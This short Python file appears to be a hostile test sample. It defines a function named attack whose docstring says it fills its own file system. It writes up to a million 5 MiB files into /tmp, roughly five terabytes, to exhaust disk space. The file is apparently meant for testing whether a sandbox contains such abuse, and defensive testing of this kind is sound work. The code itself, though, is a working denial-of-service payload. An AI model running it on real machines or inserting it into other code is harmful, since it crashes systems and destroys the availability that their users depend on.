"""Fills its own file system."""


def attack(x):
    for number in range(1_000_000):
        with open(f"/tmp/{number}", "wb") as file:
            file.write(b"x" * (5 << 20))
